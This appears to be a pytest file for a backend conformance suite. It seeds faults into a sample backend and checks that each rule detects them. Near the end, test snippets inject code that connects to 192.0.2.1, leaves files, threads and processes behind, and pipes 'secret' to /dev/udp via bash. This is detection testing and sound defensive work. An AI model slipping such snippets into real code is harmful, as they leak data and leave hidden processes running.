"""The contract: a sound backend keeps every rule, and each rule finds its fault."""

from __future__ import annotations

import ast
import os
import re
import subprocess
import sys
import textwrap
from collections.abc import Callable
from pathlib import Path

import pytest
from operator_library import ADD, MUL, library

from delegatekit_conformance.cases import Broken, contract, specimens
from delegatekit_conformance.cases.base import Late
from delegatekit_conformance.cases.fresh import in_fresh_process
from delegatekit_conformance.context import PROFILES, Context
from delegatekit_conformance.outcome import Outcome, Verdict

CONTEXT = Context("seeded", PROFILES["quick"])
RULES = {case.name.removeprefix("contract/"): case for case in contract.cases()}
SOURCE = Path(__file__).with_name("contract_backend.py").read_text()

#: Rules that start processes: tried together, since each costs seconds.
SLOW = ("listing-imports-nothing", "describing-imports-little", "import-time", "silent", "no-network")
SLOW += ("no-files-left", "nothing-left-running", "runs-elsewhere", "same-bytes-elsewhere")
SLOW += ("texts-are-only-text", "missing-packages", "nothing-left-open")
#: The rule whose backend must bring a file (test_checkers.py), and that of backends that are libraries of operators.
ELSEWHERE = ("checkers", "kernels-of-operators")

Install = Callable[..., None]

pytestmark = pytest.mark.usefixtures("quick_garbage_collection")


@pytest.fixture(autouse=True)
def _few_programs(monkeypatch: pytest.MonkeyPatch) -> None:
    """Two programs and a few questions are enough for faults that occur in any."""
    programs = {name: specimens.SPECIMENS[name] for name in ("arithmetic", "linear")}
    monkeypatch.setattr(specimens, "SPECIMENS", programs)
    few = ("convolution", "several results", "bytes", "branches")
    questions = programs | {name: specimens.QUESTIONS[name] for name in few}
    monkeypatch.setattr(specimens, "QUESTIONS", questions)
    for module in (contract.compiler, contract.separate, contract.determinism):
        monkeypatch.setattr(module, "SPECIMENS", programs)
    monkeypatch.setattr(contract.separate, "_VALUES", 3)


@pytest.fixture
def install(install_plugin: Callable[..., Path], monkeypatch: pytest.MonkeyPatch) -> Install:
    """Installs the backend with lines of its source replaced."""

    def install(*changes: tuple[str, str], **more: str) -> None:
        source = SOURCE
        for old, new in changes:
            assert source.count(old) == 1, f"{old!r} stands {source.count(old)} times in the backend"
            source = source.replace(old, new)
        ast.parse(source)
        folder = install_plugin("seeded", source, **more)
        monkeypatch.setenv("PYTHONPATH", os.pathsep.join((str(folder), *path)))

    path = list(filter(None, [os.environ.get("PYTHONPATH")]))
    return install


def try_rule(name: str) -> Outcome:
    case = RULES[name]
    (example,) = case.examples(CONTEXT)
    return case.run(example, CONTEXT)


@pytest.mark.parametrize("rule", [name for name in RULES if name not in (*SLOW, *ELSEWHERE)])
def test_a_sound_backend_keeps_the_rule(install: Install, rule: str) -> None:
    install()
    outcome = try_rule(rule)
    assert outcome.verdict in (Verdict.PASSED, Verdict.NOT_APPLICABLE), outcome.detail
    assert outcome.verdict is Verdict.PASSED, outcome.detail


RETURN = "    return PreprocessResult(blob, specs, tuple(named.values()), handles, ESTIMATE)\n"
EXECUTE = "        values = dict(handle.constants)\n"
WRITE = "            output.resize_(values[name].shape).copy_(values[name])\n"
INIT = "        return handle\n"
DESTROY = "        handle.plan = None\n"
TIME = "            times.append(OperatorTime(operator, time.perf_counter() - start, len(times)))\n"
CHECK = "        name = call.operator\n"

BROKEN_HOOK = "@hookimpl\ndef {}():\n    raise KeyError('table')\n\n\nclass Partitioner:"
TARGETS = (
    "@hookimpl\ndef targets():\n    from delegatekit_api.devices import TargetInfo\n"
    "    return [TargetInfo('chip', 'a chip', {'chipset': 'x'})]\n\n\nclass Partitioner:"
)
#: A second destroy ends the handle that was made last.
SLOTS = (
    "        import gc\n        if handle.plan is None:\n"
    "            [setattr(h, 'plan', None) for h in gc.get_objects() if type(h) is Handle]\n" + DESTROY
)

#: Rule -> the faults that it must find: what is replaced by what, and a word of the verdict's detail.
FAULTS: list[tuple[str, str, str, str]] = [
    ("listed", '        distribution="delegatekit-seeded",', '        distribution="other",', "distribution"),
    ("listed", '        name="seeded",', '        name="another",', "calls itself"),
    ("version", '        version="1.2",', '        version="1.3",', "installed"),
    ("version", '        version="1.2",', '        version="newest",', "PEP 440"),
    ("summary", '"a seeded fault"', '""', "empty"),
    ("summary", '"a seeded fault"', '"two\\nlines"', "one plain line"),
    ("summary", '"a seeded fault"', '"x" * 200', "200 characters"),
    ("api-version", "ApiVersion(2, 2)", "ApiVersion(1, 4)", "too old"),
    ("api-version", "ApiVersion(2, 2)", "ApiVersion(2, 99)", "too new"),
    (
        "description-twice",
        '        delegate_id="SeededBackend",',
        '        delegate_id="S" + os.urandom(4).hex(),',
        "differently",
    ),
    ("delegate-id", '"SeededBackend"', '"Seeded Backend"', "printable"),
    ("delegate-id", '"SeededBackend"', '"ReferenceBackend"', "same delegate id"),
    ("precision", "        options=Options,", '        options=Options, compute_precision="float24",', "float24"),
    (
        "precision",
        "class Partitioner:",
        '@hookimpl\ndef compute_precision(options):\n    return "float16"\n\n\nclass Partitioner:',
        "float32, but with the default options float16",
    ),
    ("precision", "        options=Options,", "        options=Options, overread_bytes=1 << 20,", "beyond"),
    ("hooks", "@hookimpl\ndef create_partitioner", "def create_partitioner", "no create_partitioner"),
    ("operators-are-told", '        raise FormatError("is damaged"', '        raise KeyError("is damaged"', "KeyError"),
    ("operators-are-told", "(name,))\n", "())\n", "makes anything"),
    ("operators-are-told", "(name,))\n", "('y',))\n", "made twice"),
    ("hooks", "@hookimpl\ndef preprocess", "def preprocess", "neither"),
    ("options-documented", 'help="How hard to try."', 'help=""', "level"),
    ("options-documented", '    """The options."""\n', "", "docstring"),
    ("options-defaults", "option(1, help", "option(5, help", "level"),
    ("options-defaults", "exact: bool = option(False", "exact: bool = option(0", "exact"),
    ("options-strings", "    exact: bool", "    def to_mapping(self):\n        return {}\n    exact: bool", "lost"),
    (
        "options-refused",
        "    exact: bool",
        "    @classmethod\n    def from_mapping(cls, v, *, backend=''):\n        return cls()\n    exact: bool",
        "is accepted",
    ),
    (
        "options-refused",
        "    exact: bool",
        "    @classmethod\n    def from_mapping(cls, v, *, backend=''):\n        return cls(**v)\n    exact: bool",
        "TypeError",
    ),
    (
        "options-refused",
        "    exact: bool",
        '    many: int = option(0, help="So many.")\n    exact: bool',
        "many = -1 is accepted",
    ),
    (
        "options-name-something",
        "    exact: bool",
        '    wide: frozenset[str] = option(frozenset(), help="Layers to be wide.")\n    exact: bool',
        "which names nothing",
    ),
    ("check-changes-nothing", CHECK, CHECK + "        node.meta['seen'] = 1\n", "metadata"),
    ("check-changes-nothing", CHECK, CHECK + "        node.name = node.name + '_'\n", "name"),
    (
        "check-changes-nothing",
        CHECK,
        CHECK + "        for tensor in call.program.constants.values(): tensor.mul_(1)\n",
        "constant",
    ),
    ("check-changes-nothing", "        return None\n", "        program.constants.clear()\n", "constants"),
    (
        "check-repeatable",
        CHECK,
        CHECK + "        KEPT.append(node)\n        if len(KEPT) % 2: return Verdict.no('not this time')\n",
        "later",
    ),
    (
        "check-repeatable",
        CHECK,
        CHECK
        + "        self.n = getattr(self, 'n', 0) + 1\n        if self.n > 3: return Verdict.no('enough of this')\n",
        "later",
    ),
    ("refusal-reasons", 'Verdict.no(f"{name} is not in the table")', "Verdict.no(name)", "not a sentence"),
    ("refusal-reasons", 'Verdict.no(f"{name} is not in the table")', "Verdict(False)", "without a reason"),
    (
        "refusal-reasons",
        'Verdict.no(f"{name} is not in the table")',
        "Verdict.no(f'cannot take it: {object()}')",
        "programmers",
    ),
    ("refusal-reasons", CHECK, CHECK + "        if node.meta['val'].dtype: pass\n", "raises AttributeError"),
    ("special-values-told", 'return "NaN is 0" if', "return 0 if", "no text"),
    ("special-values-told", 'if call.operator == "aten.relu.default"', 'if call["ways"]', "special_values of"),
    ("options-of-partitioners", "if name in self.options.leave_out:", "if name in ():", "a delegate has it"),
    ("options-of-partitioners", "if self.options.whole_graph and", "if False and", "it is still lowered"),
    ("keep-operators", '{"aten.linear.default"}', '{"linear"}', "not an operator"),
    ("keep-operators", '{"aten.linear.default"}', '"aten.linear.default"', "keep_operators gives"),
    (
        "groups",
        "        return Verdict.yes()",
        "        return Verdict.yes(group=[next(iter(call.program.graph.nodes))])",
        "no node",
    ),
    (
        "proposals",
        "        return None\n",
        "        return [[n for n in program.graph.nodes if n.op == 'call_function']]\n",
        "refuses",
    ),
    (
        "proposals",
        "        return None\n",
        "        return [[call.node] for call in program.calls() if self.check(call).supported] * 2\n",
        "twice",
    ),
    (
        "unknown-operators",
        'Verdict.no(f"{name} is not in the table")',
        "Verdict.yes() if 'mystery' in name else Verdict.no('is not in the table')",
        "invented",
    ),
    ("unknown-operators", CHECK, CHECK + "        node.target._overloadname and TAKEN.index(name)\n", "raises"),
    (
        "named-data",
        'NamedData(f"{zlib.crc32(data):08x}", data)',
        'NamedData(f"{zlib.crc32(data):08x}", b"")',
        "is empty",
    ),
    ("compiles-what-it-takes", RETURN, "    raise KeyError('no such thing')\n", "cannot be lowered"),
    ("compiles-what-it-takes", INIT, "        raise FormatError('no')\n", "cannot be loaded"),
    ("compiling-changes-nothing", RETURN, "    for t in view.constants.values(): t.add_(0)\n" + RETURN, "constant"),
    (
        "compiling-changes-nothing",
        RETURN,
        "    partition.exported_program.graph.create_node('placeholder', 'z')\n" + RETURN,
        "nodes",
    ),
    (
        "compiling-changes-nothing",
        RETURN,
        "    for n in view.graph.nodes: n.meta.pop('stack_trace', None)\n" + RETURN,
        "metadata",
    ),
    ("same-bytes", RETURN, RETURN.replace("blob,", "blob + os.urandom(2),"), "different blobs"),
    (
        "same-bytes",
        '    specs = (CompileSpec("level", b"1"),)',
        '    specs = (CompileSpec("level", os.urandom(1)),)',
        "compile specs",
    ),
    (
        "compile-specs",
        '    specs = (CompileSpec("level", b"1"),)',
        '    specs = (CompileSpec("level", b"1"),) * 2',
        "twice",
    ),
    ("compiles-what-it-takes", RETURN, RETURN.replace("blob,", "[blob, 'text'],"), "not a bytes"),
    (
        "other-weights",
        'NamedData(f"{zlib.crc32(data):08x}", data)',
        "NamedData(node.name, data)",
        "stays the same with other weights",
    ),
    ("other-weights", 'f"{zlib.crc32(data):08x}", data)', 'f"{len(data)}", bytes(len(data)))', "to the same bytes"),
    (
        "programs-that-look-alike",
        "    view = partition.view\n",
        "    view = KEPT.append(partition.view) or KEPT[0]\n",
        "products with constants",
    ),
    (
        "programs-that-look-alike",
        'named[node.name] = NamedData(f"{zlib.crc32(data):08x}", data)',
        'named[node.name] = NamedData(f"{zlib.crc32(data[:1024]):08x}", data)',
        "last row",
    ),
    ("documentation", "class Partitioner:", BROKEN_HOOK.format("documentation"), "KeyError"),
    ("targets", "class Partitioner:", TARGETS, "unknown option"),
    ("verification", '"" if level else "level is 0"', '""', "not a reason"),
    ("compiles-what-it-takes", "latency=1e-6", "latency=-1.0", "estimate has a negative number"),
    ("estimates", '"seeded 1"', '" "', "where it comes from"),
    (
        "debug-handles-in-order",
        "        handles[len(steps)] = ",
        "        handles[-len(steps)] = ",
        "those of other operators",
    ),
    ("options-compile", RETURN, "    if options.level == 0: raise KeyError('level 0')\n" + RETURN, "level = 0"),
    (
        "options-stay-apart",
        '    specs = (CompileSpec("level", b"1"),)',
        "    KEPT.append(options.level)\n" + '    specs = (CompileSpec("level", bytes([min(KEPT)])),)',
        "the file is another",
    ),
    (
        "methods",
        "    view = partition.view\n",
        "    view = KEPT.append(partition.view) or KEPT[0]\n",
        "method product",
    ),
    (
        "any-thread",
        RETURN,
        "    import signal; signal.signal(signal.SIGUSR1, signal.getsignal(signal.SIGUSR1))\n" + RETURN,
        "in another thread",
    ),
    (
        "different-things-have-different-names",
        '        named[node.name] = NamedData(f"{zlib.crc32(data):08x}", data)\n',
        '        named[node.name] = NamedData(f"{zlib.crc32(data[:64]):08x}", data)\n',
        "stands for other bytes",
    ),
    (
        "identities-are-of-all",
        "    body = json.dumps(plan, sort_keys=True).encode()\n",
        "    import hashlib\n    layout = json.dumps([steps, [shape for _, shape in plan['constants'].values()]])\n"
        "    plan['id'] = hashlib.md5(layout.encode()).hexdigest()\n"
        "    body = json.dumps(plan, sort_keys=True).encode()\n",
        "two models have one identity",
    ),
    (
        "several-at-once",
        "    view = partition.view\n",
        "    KEPT[:] = [partition]\n    sum(range(3000))\n    view = KEPT[0].view\n",
        "beside others in threads",
    ),
    (
        "handles-change-threads",
        EXECUTE,
        "        import threading\n        KEPT.append(threading.get_ident())\n"
        "        if KEPT[0] != KEPT[-1]: raise KeyError('no context in this thread')\n" + EXECUTE,
        "in another thread raises KeyError",
    ),
    ("second-destroy-later", DESTROY, SLOTS, "ends another|after an older handle"),
    (
        "inputs-that-share-memory",
        EXECUTE,
        "        if len({id(t) for t in inputs}) < len(inputs): inputs = [t * 0 for t in inputs]\n" + EXECUTE,
        "one tensor as every input",
    ),
    (
        "results-stay",
        WRITE,
        "            KEPT.append(output)\n            [t.zero_() for t in KEPT[:-1] if t.shape == output.shape]\n"
        + WRITE,
        "in the outputs of the one before",
    ),
    (
        "nan-passes",
        EXECUTE,
        "        KEPT.extend(t for t in inputs if t.isnan().any())\n"
        "        inputs = [t * float('nan') if KEPT else t for t in inputs]\n" + EXECUTE,
        "after one with nan",
    ),
    (
        "after-a-refusal",
        "        blob = bytes(payload.blob)\n",
        "        blob = bytes(payload.blob)\n        KEPT.append(blob)\n"
        "        if len(KEPT) > 1 and len(KEPT[-2]) < len(blob): raise FormatError('again', where='x')\n",
        "after another blob was refused",
    ),
    (
        "named-data-anywhere",
        "            data = bytes(payload.named_data[key])\n",
        "            data = bytes(payload.named_data[key])\n"
        "            if type(payload.named_data[key].obj).__name__ == 'ndarray':\n"
        "                raise FormatError('not aligned', where=key)\n",
        "aligned as the backend asked",
    ),
    (
        "available-in-threads",
        "Availability(True)",
        "Availability(__import__('threading').current_thread().name == 'MainThread', 'not the main thread')",
        "in another thread, the runtime is not available",
    ),
    (
        "compiles-what-it-takes",
        'NamedData(f"{zlib.crc32(data):08x}", data)',
        'NamedData(f"{zlib.crc32(data):08x}", data, 24)',
        "power of two",
    ),
    ("debug-handles", 'node.meta["debug_handle"],', 'node.meta["debug_handle"] + 900,', "which no node has"),
    ("available", "Availability(True)", "Availability(False)", "the reason is"),
    ("available", "Availability(True)", "os.nothing", "AttributeError"),
    ("available", "Availability(True)", "True", "not an Availability"),
    ("available", "Availability(True)", "Availability(os.urandom(1)[0] < 300, os.urandom(3).hex())", "and then"),
    (
        "repeated-calls",
        EXECUTE,
        "        last, handle.last = getattr(handle, 'last', inputs[0]), inputs[0].clone()\n"
        "        inputs = [last, *inputs[1:]]\n" + EXECUTE,
        "in call 3",
    ),
    (
        "indices-out-of-range",
        EXECUTE,
        "        wrong = any(item.dtype == torch.int64 and int(item.max()) > 4 for item in inputs)\n"
        "        handle.spoilt = wrong or getattr(handle, 'spoilt', False)\n"
        "        if handle.spoilt and not wrong:\n"
        "            raise ExecutionError('spoilt', where='seeded')\n" + EXECUTE,
        "spoilt",
    ),
    ("profiles", TIME, TIME.replace("time.perf_counter()", "-1.0"), "seconds"),
    ("profiles", TIME, TIME.replace("len(times)", "'step'"), "no key of"),
    ("profiles", TIME, "            times.append((operator, 1.0))\n", "not an OperatorTime"),
    ("inputs-unwritten", EXECUTE, EXECUTE + "        inputs[0].add_(1)\n", "writes into its inputs"),
    ("outputs-written", WRITE, "            output[1:].copy_(values[name][1:])\n", "full of"),
    ("outputs-written", WRITE, "            output.mul_(0).add_(values[name])\n", "nan"),
    (
        "tensors-anywhere",
        EXECUTE,
        EXECUTE + "        inputs = [t.as_strided(t.shape, t.stride(), 0) for t in inputs]\n",
        "aligned",
    ),
    (
        "tensors-anywhere",
        WRITE,
        WRITE
        + "            place = max(0, output.storage_offset() - 1)\n"
        + "            output.as_strided((1,), (1,), place)[0] = values[name].reshape(-1)[0]\n",
        "memory around|aligned",
    ),
    (
        "many-handles",
        INIT,
        "        KEPT.append(handle)\n" + "        handle.plan = KEPT[0].plan if len(KEPT) > 8 else plan\n" + INIT,
        "32 handles|ExecutionError|wrong number",
    ),
    (
        "many-handles",
        DESTROY,
        "        import gc\n        for h in gc.get_objects():\n            if type(h) is Handle: h.plan = None\n",
        "destroyed",
    ),
    ("destroy-twice", DESTROY, "        del handle.plan\n" + "        del handle.outputs\n", "destroy"),
    ("execute-after-destroy", DESTROY, "        pass\n", "no error"),
    (
        "execute-after-destroy",
        '            raise ExecutionError("the handle was destroyed", where="seeded")',
        "            pass",
        "not ExecutionError",
    ),
    (
        "init-again",
        INIT,
        "        KEPT.append(blob)\n        if KEPT.count(blob) > 2: raise FormatError('only twice', where='x')\n"
        + INIT,
        "only twice",
    ),
    ("never-executed", DESTROY, "        if not handle.ran: raise KeyError('ran')\n" + DESTROY, "ran"),
    (
        "two-threads",
        EXECUTE,
        "        KEPT.append(inputs)\n        import time; time.sleep(0.001)\n"
        + "        inputs = [KEPT[-1][0] * len(KEPT), *KEPT[-1][1:]]\n        KEPT.pop()\n"
        + EXECUTE,
        "with two threads",
    ),
    ("nothing-kept", EXECUTE, "        KEPT.append(inputs)\n" + EXECUTE, "tensors of a call"),
    ("nothing-kept", INIT, "        KEPT.append(payload)\n" + INIT, "payload"),
    (
        "wrong-count",
        "        if len(inputs) != len(handle.inputs) or len(outputs) != len(handle.outputs):",
        "        if len(outputs) != len(handle.outputs):",
        "too few inputs|too many inputs",
    ),
    (
        "wrong-count",
        "        if len(inputs) != len(handle.inputs) or len(outputs) != len(handle.outputs):",
        "        if len(inputs) != len(handle.inputs):",
        "outputs",
    ),
    (
        "wrong-shape",
        "    fits = shape == spec.shape\n",
        "    fits = True\n",
        "too small|another rank|too large|reversed",
    ),
    ("wrong-dtype", '    return fits and str(tensor.dtype) == f"torch.{spec.dtype}"', "    return fits", "as torch"),
    (
        "another-program",
        "[item.clone() for item in inputs]",
        "[item.view(torch.float32).clone() for item in inputs]",
        "an input of torch.int32 instead: no error, and other numbers",
    ),
    (
        "another-size",
        '                raise FormatError("has other sizes than the program gives", where="seeded")',
        "                pass",
        "no error, and memory beyond an output is written to",
    ),
    (
        "other-arguments",
        '        if len(plan["inputs"]) != len(payload.inputs) or len(plan["outputs"]) != len(payload.outputs):',
        "        if False:",
        "a program with one input more: raises ValueError",
    ),
    (
        "foreign-blobs",
        '            raise FormatError("not a blob of this backend", where="offset 0")',
        "            return Handle({}, {}, payload.inputs, payload.outputs)",
        "an empty blob: no error",
    ),
    (
        "foreign-blobs",
        '            raise FormatError("not a blob of this backend", where="offset 0")',
        "            raise ValueError(blob[:4])",
        "ValueError",
    ),
    (
        "foreign-blobs",
        '            raise FormatError("not a blob of this backend", where="offset 0")',
        '            raise FormatError("not a blob")',
        "neither where",
    ),
    ("missing-named-data", "            if key not in payload.named_data:", "            if not key:", "KeyError"),
    (
        "unknown-compile-spec",
        '                raise FormatError("an unknown compile spec", where=spec.key)',
        "                raise KeyError(spec.key)",
        "KeyError",
    ),
    (
        "changing-sizes",
        WRITE,
        "            output.view(-1)[: values[name].numel()].copy_(values[name].view(-1))\n",
        "has shape",
    ),
    (
        "changing-sizes",
        "            except RuntimeError as error:",
        "            except KeyError as error:",
        "that differ",
    ),
    ("changing-sizes", "all(a <= b for a, b in zip(shape, spec.shape, strict=True))", "True", "out of bounds"),
    (
        "right-results",
        '    "steps": steps,\n',
        '    "steps": [[n, o.replace("add", "sub"), a] for n, o, a in steps],\n',
        "relative error",
    ),
    ("right-results", EXECUTE, "        KEPT or KEPT.extend(inputs)\n        inputs = KEPT\n" + EXECUTE, "call 2"),
]


@pytest.mark.parametrize(("rule", "old", "new", "word"), FAULTS, ids=[f"{f[0]}-{i}" for i, f in enumerate(FAULTS)])
def test_the_rule_finds_the_fault(install: Install, rule: str, old: str, new: str, word: str) -> None:
    install((old, new))
    outcome = try_rule(rule)
    assert outcome.verdict is Verdict.VIOLATION, outcome.detail
    assert any(part in outcome.detail for part in word.split("|")), outcome.detail
    assert outcome.blame == "backend"


def test_a_proposal_that_is_not_convex_is_found(install: Install) -> None:
    install(
        ("TAKEN = (", 'TAKEN = ("aten.cat.default", '),
        (
            "        return None\n",
            "        ends = ('aten.sigmoid.default', 'aten.cat.default')\n"
            "        return [[node for node in program.graph.nodes if str(node.target) in ends]]\n",
        ),
    )
    outcome = try_rule("proposals")
    assert outcome.verdict is Verdict.VIOLATION, outcome.detail
    assert "not convex: aten.mul.Tensor lies in between" in outcome.detail


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (RETURN, "    if options.level == 0: raise OptionError('level 0 is not for it')\n" + RETURN),
        (
            "    return Partitioner(options)\n",
            "    found = Partitioner(options)\n"
            "    found.plan_reason = lambda plan: 'too exact' if options.exact else None\n"
            "    return found\n",
        ),
    ],
)
def test_what_an_option_or_a_plan_does_not_allow_is_a_refusal_with_a_reason(
    install: Install, old: str, new: str
) -> None:
    install((old, new), ("    NamedData,\n", "    NamedData,\n    OptionError,\n"))
    outcome = try_rule("options-compile")
    assert outcome.verdict is Verdict.PASSED, outcome.detail


MISSING_HOOK = (
    "@hookimpl\ndef compiler_availability(options):\n    from delegatekit_api import Availability\n"
    "    return Availability(options.level != 0, 'tool X is not installed')\n\n\nclass Partitioner:"
)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (RETURN, "    if options.level == 0: raise RuntimeUnavailableError('tool X is not installed')\n" + RETURN),
        ("class Partitioner:", MISSING_HOOK),
    ],
    ids=["raised", "told"],
)
def test_an_option_whose_tool_is_missing_is_not_tried_and_nobody_is_blamed(
    install: Install, old: str, new: str
) -> None:
    install((old, new), ("    NamedData,\n", "    NamedData,\n    RuntimeUnavailableError,\n"))
    outcome = try_rule("options-compile")
    assert outcome.verdict is Verdict.PASSED, outcome.detail
    assert "not tried: level = 0 (tool X is not installed)" in outcome.detail


def test_every_rule_has_a_seeded_fault() -> None:
    assert {fault[0] for fault in FAULTS} | set(SLOW) | set(ELSEWHERE) == set(RULES)


# Libraries of operators

ACME = Context("acme", PROFILES["quick"])


@pytest.mark.parametrize(
    ("source", "words"),
    [
        (library(), "2 operators"),
        (library(schemas=(ADD, MUL, MUL.replace("mul", "div"))), "acme has no acme::div.out"),
        (library().replace("raise FormatError", "return str"), "a kernel for an operator that it does not list"),
        (
            library().replace(
                '        if operator == "acme::mul.out":',
                '        if operator == "acme::mul.out":\n            return 3',
            ),
            "the kernel of acme::mul.out is no function",
        ),
        (library(available=False), "its kernels are not here: its library is not here"),
    ],
    ids=["sound", "none", "unlisted", "number", "away"],
)
def test_a_library_has_a_kernel_for_each_of_its_operators(
    install_plugin: Callable[..., Path], source: str, words: str
) -> None:
    install_plugin("acme", source)
    case = RULES["kernels-of-operators"]
    (example,) = case.examples(ACME)
    outcome = case.run(example, ACME)
    assert words in outcome.detail
    assert outcome.verdict.is_fault == (
        words not in ("2 operators", "its kernels are not here: its library is not here")
    )


# Rules that look at whole processes

FRESH = "    view = partition.view\n"
#: Only in processes of the suite: this one must not be harmed.
HARM = """
    if "delegatekit-conformance-" in os.environ["HOME"]:
        import socket, subprocess, threading, time
        os.write(1, b"compiling...")
        try:
            socket.socket().connect(("192.0.2.1", 80))
        except OSError:
            pass
        with open("left.txt", "w") as file:
            file.write("x")
        os.makedirs(os.environ["XDG_CACHE_HOME"], exist_ok=True)
        with open(os.environ["XDG_CACHE_HOME"] + "/kept", "w") as file:
            file.write("x")
        threading.Thread(target=time.sleep, args=(60,), daemon=True, name="Poller").start()
        subprocess.Popen(["sleep", "60"], stdout=subprocess.DEVNULL)
"""


@pytest.mark.slow
def test_a_sound_backend_does_no_harm_to_processes(install: Install) -> None:
    install()
    for rule in SLOW:
        outcome = try_rule(rule)
        assert outcome.verdict is Verdict.PASSED, f"{rule}: {outcome.detail}"


def test_harm_to_processes_is_found(install: Install) -> None:
    install((FRESH, FRESH + HARM))
    for rule, words in {
        "silent": "prints to standard output: 'compiling...",
        "no-network": "uses the network: socket.connect ('192.0.2.1', 80)",
        "no-files-left": "leaves 1 files behind: work/left.txt",
        "nothing-left-open": "leaves it to the garbage collector to close: unclosed <socket.socket",
        "nothing-left-running": "leaves threads running: Poller",
    }.items():
        outcome = try_rule(rule)
        assert outcome.verdict is Verdict.VIOLATION, rule
        assert words in outcome.detail


#: Posts from a process that is forked, as Python code, and from a program of another language.
FORKED = """
    import socket
    child = os.fork()
    if not child:
        try:
            socket.socket().connect(("192.0.2.1", 80))
        finally:
            os._exit(0)
    os.waitpid(child, 0)
"""
PROGRAM = """
    import subprocess
    subprocess.run(["bash", "-c", "echo secret > /dev/udp/192.0.2.1/53"], stderr=subprocess.DEVNULL)
"""


@pytest.mark.parametrize(("harm", "words"), [(FORKED, "socket.connect ('192.0.2.1', 80)"), (PROGRAM, "a program")])
def test_children_that_use_the_network_are_found(harm: str, words: str, install: Install) -> None:
    if harm is PROGRAM and subprocess.run([sys.executable, "-c", ISOLATES], check=False).returncode:
        pytest.skip("this system allows no network namespaces")
    only_there = "    if 'delegatekit-conformance-' in os.environ['HOME']:\n"
    install((FRESH, FRESH + only_there + textwrap.indent(harm, "    ")))
    outcome = try_rule("no-network")
    assert outcome.verdict is Verdict.VIOLATION, outcome.detail
    assert words in outcome.detail


ISOLATES = "import sys\nfrom delegatekit_conformance.cases.isolation import isolate\nsys.exit(not isolate())"


@pytest.mark.slow
@pytest.mark.parametrize(
    ("harm", "words"),
    [
        ("subprocess.Popen(['sleep', '60'], stdout=2)", "child process"),
        ("subprocess.run('sleep 60 >&2 &', shell=True)", "after the one that started it has ended"),
    ],
)
def test_processes_that_are_left_are_found(install: Install, harm: str, words: str) -> None:
    guard = '    if "delegatekit-conformance-" in os.environ["HOME"]:\n'
    install((FRESH, FRESH + guard + f"        import subprocess; {harm}\n"))
    outcome = try_rule("nothing-left-running")
    assert outcome.verdict is Verdict.VIOLATION, outcome.detail
    assert words in outcome.detail


@pytest.mark.slow
def test_files_that_depend_on_the_order_of_sets_are_found(install: Install) -> None:
    install(('        "steps": steps,\n', '        "steps": steps,\n        "order": list(set("abcdefgh")),\n'))
    outcome = try_rule("same-bytes-elsewhere")
    assert outcome.verdict is Verdict.VIOLATION, outcome.detail
    assert "different hash seeds" in outcome.detail


def test_blobs_that_only_their_maker_can_run_are_found(install: Install) -> None:
    refuse = "        if not KEPT: raise FormatError('never seen', where='blob')\n"
    install((RETURN, "    KEPT.append(blob)\n" + RETURN), (INIT, refuse + INIT))
    outcome = try_rule("runs-elsewhere")
    assert outcome.verdict is Verdict.VIOLATION, outcome.detail
    assert "never seen" in outcome.detail


@pytest.mark.slow
def test_heavy_imports_are_found(install: Install, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    burn = "import torch, time\nend = time.process_time() + 0.6\nwhile time.process_time() < end: pass\n"
    install(("KEPT = []\n", "KEPT = []\n" + burn))
    assert "imports torch" in try_rule("describing-imports-little").detail
    assert "CPU seconds, more than" in try_rule("import-time").detail
    (tmp_path / "sitecustomize.py").write_text("import delegatekit_seeded_plugin")
    monkeypatch.setenv("PYTHONPATH", f"{tmp_path}{os.pathsep}{os.environ['PYTHONPATH']}")
    contract.process._imports_of.cache_clear()
    assert "before the backend is asked for" in try_rule("listing-imports-nothing").detail


@pytest.mark.parametrize(
    ("script", "words"),
    [
        ("import os, signal; os.kill(os.getpid(), signal.SIGSEGV)", "crashed: SIGSEGV"),
        ("import os; os._exit(0)", "ended with exit code 0"),
        ("raise KeyError('lost')", "exit code 1: KeyError: 'lost'"),
        ("import time; time.sleep(60)", "did not end within 2 s"),
        ("while True: pass", "did not end within 1 CPU seconds"),
    ],
)
def test_a_fresh_process_that_fails_breaks_the_rule(script: str, words: str, monkeypatch: pytest.MonkeyPatch) -> None:
    if "CPU" in words:
        monkeypatch.setattr("delegatekit_conformance.cases.fresh._PATIENCE", 100.0)
    with pytest.raises(Broken, match=re.escape(words)) as caught:
        in_fresh_process(script, Context("seeded", timeout=1.0), torch_free=True)
    assert isinstance(caught.value, Late) == ("end within" in words), "time limits are no rule"


def test_a_fresh_process_has_folders_of_its_own() -> None:
    script = "import os; answer['cwd'] = os.listdir('.'); open('a', 'w'); print('said', given, os.environ['HOME'])"
    fresh = in_fresh_process(script, CONTEXT, 3, torch_free=True)
    assert fresh.answer == {"cwd": []}
    assert fresh.files == ("work/a",)
    assert fresh.stdout.startswith("said 3 ")
    assert not Path(fresh.stdout.split()[2]).exists()
    assert not fresh.orphans


# Without anything to try


def test_a_backend_without_runtime_is_not_asked_to_run(install: Install) -> None:
    install(("Availability(True)", "Availability(False, 'the device is not here')"))
    for rule, case in RULES.items():
        if rule not in SLOW:
            outcome = try_rule(rule)
            assert not outcome.verdict.is_fault, f"{rule}: {outcome.detail}"
            if case in contract.runtime.RULES and rule not in ("available", *ELSEWHERE):
                assert outcome.verdict is Verdict.NOT_APPLICABLE
                assert "the device is not here" in outcome.detail


#: A runtime that needs a package, asks whether it is there, and says so in `init`.
ASKS = (
    "        try:\n            import iniconfig\n        except ImportError:\n"
    "            return Availability(False, 'iniconfig is not installed')\n        return Availability(True)\n"
)
TELLS = (
    "        if not self.is_available().available:\n            raise RuntimeUnavailableError('iniconfig is missing')\n"
)
NEEDS = "        import iniconfig, torch\n"


@pytest.mark.parametrize(
    ("asks", "needs", "found"),
    [
        (ASKS, TELLS + NEEDS, ""),
        pytest.param(ASKS, NEEDS, "without iniconfig init raises ModuleNotFoundError", marks=pytest.mark.slow),
        (ASKS.replace("(False, ", "(True, "), NEEDS, "without iniconfig init raises ModuleNotFoundError"),
    ],
)
def test_a_package_that_the_runtime_looks_for_may_be_missing(
    install: Install, asks: str, needs: str, found: str
) -> None:
    install(
        ("        return Availability(True)\n", asks),
        ("    def init(self, payload):\n        import torch\n", "    def init(self, payload):\n" + needs),
        ("    FormatError,\n", "    FormatError,\n    RuntimeUnavailableError,\n"),
    )
    outcome = try_rule("missing-packages")
    assert outcome.verdict is (Verdict.VIOLATION if found else Verdict.PASSED), outcome.detail
